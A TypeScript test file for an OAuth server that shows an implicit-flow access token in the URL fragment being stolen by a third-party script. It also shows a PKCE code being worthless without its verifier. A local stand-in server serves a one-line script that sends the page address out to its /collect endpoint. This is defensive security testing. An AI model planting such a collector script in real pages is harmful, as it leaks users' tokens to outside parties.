import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { authorize, authorizeUrl, openBrowser, verifier } from '../support/browser.ts'
import { launchChromium } from '../support/chromium.ts'
import { type ClientApp, startClientApp } from '../support/client-app.ts'
import { implicitClient } from '../support/retired-clients.ts'
import { startServer, type TestServer } from '../support/server.ts'
import { post, userinfo } from '../support/token.ts'
import { createVisits, signInAt, type Visits } from '../support/visit.ts'
import { api, world } from '../support/world.ts'

let server: TestServer
let app: ClientApp
/** Whose script the app's page has for a reason of its own: a counter, a map, an advertisement. */
let stranger: Server
const collected: URL[] = []
let chromium: Browser
let visit: Visits

beforeAll(async () => {
  stranger = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://stranger.example')
    if (url.pathname === '/collect') collected.push(new URL(url.searchParams.get('at') ?? ''))
    response
      .setHeader('content-type', 'text/javascript')
      .end(`new Image().src = new URL('/collect?at=' + encodeURIComponent(location), document.currentScript.src)`)
  }).listen(0, '127.0.0.1')
  await once(stranger, 'listening')
  const script = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/counter.js`
  app = await startClientApp(() => server.issuer)
  app.serve(
    '/page',
    'text/html',
    `<!doctype html><title>Page</title><link rel="icon" href="data:,"><script src="${script}"></script>`,
  )
  app.serve('/elsewhere', 'text/html', '<!doctype html><title>Elsewhere</title><link rel="icon" href="data:,">')
  const redirect_uris = [`${app.origin}/page`]
  const { asks: _, ...old } = implicitClient
  const clients = [old, ...world.clients.filter(it => it.client_id === 'spa')].map(it => ({ ...it, redirect_uris }))
  const document = { ...world, clients: [...world.clients.filter(it => it.client_id === 'api-server'), ...clients] }
  ;[server, chromium] = await Promise.all([
    startServer({ document, config: { allow: ['implicit'] } }),
    launchChromium(),
  ])
  visit = createVisits(chromium, () => server.issuer)
})
beforeEach(() => {
  collected.length = 0
})
afterAll(async () => {
  await chromium?.close()
  stranger?.close()
  await app?.close()
  await server?.close()
})

const pkceless = { code_challenge: undefined, code_challenge_method: undefined }

/** Signs in to the app's page; what the stranger's script read in its address. */
async function enter(page: Page, changes: Record<string, string | undefined>): Promise<URL> {
  await page.goto(authorizeUrl(server.issuer, { redirect_uri: `${app.origin}/page`, ...changes }))
  const gone = page.waitForRequest('**/collect?**')
  await signInAt(page, `${app.origin}/page**`)
  await gone
  await expect.poll(() => collected).not.toEqual([])
  return collected[0] as URL
}

test('S16, A28: implicit: a script of the page reads the token in its address, uses it elsewhere, and the history keeps it', async () => {
  await visit({}, async ({ page }) => {
    const asked = { client_id: 'old-spa', response_type: 'token', ...pkceless }
    const token = new URLSearchParams((await enter(page, asked)).hash.slice(1)).get('access_token') ?? ''
    expect((await userinfo(server.issuer, token)).body).toMatchObject({ email: 'alice@example.com' })
    await page.goto(`${app.origin}/elsewhere`)
    await page.goBack()
    expect(page.url()).toContain(token)
  })
})

test('S16, A28: code with PKCE: the same script reads a code, which is worth nothing without its verifier', async () => {
  await visit({}, async ({ page }) => {
    const { searchParams, hash } = await enter(page, { client_id: 'spa' })
    expect([hash, searchParams.has('access_token')]).toEqual(['', false])
    const code = searchParams.get('code') ?? ''
    const redirect_uri = `${app.origin}/page`
    const redeem = (code_verifier: string) =>
      post(`${server.issuer}/token`, {
        grant_type: 'authorization_code',
        client_id: 'spa',
        code,
        redirect_uri,
        code_verifier,
      })
    expect((await redeem('g'.repeat(43))).body.error).toBe('invalid_grant')
    expect((await redeem(verifier)).status).toBe(200)
  })
})

test('A30: Auth0’s request for implicit, with its audience and its order of types, is answered in the fragment', async () => {
  const url = authorizeUrl(server.issuer, {
    client_id: 'old-spa',
    redirect_uri: `${app.origin}/page`,
    response_type: 'token id_token',
    audience: api,
    auth0Client: 'eyJ9',
    ...pkceless,
  })
  const back = await authorize(openBrowser(), url)
  expect(Object.fromEntries(back)).toMatchObject({
    access_token: expect.any(String),
    id_token: expect.any(String),
    token_type: 'Bearer',
    expires_in: '3600',
    state: 'state-1',
  })
})
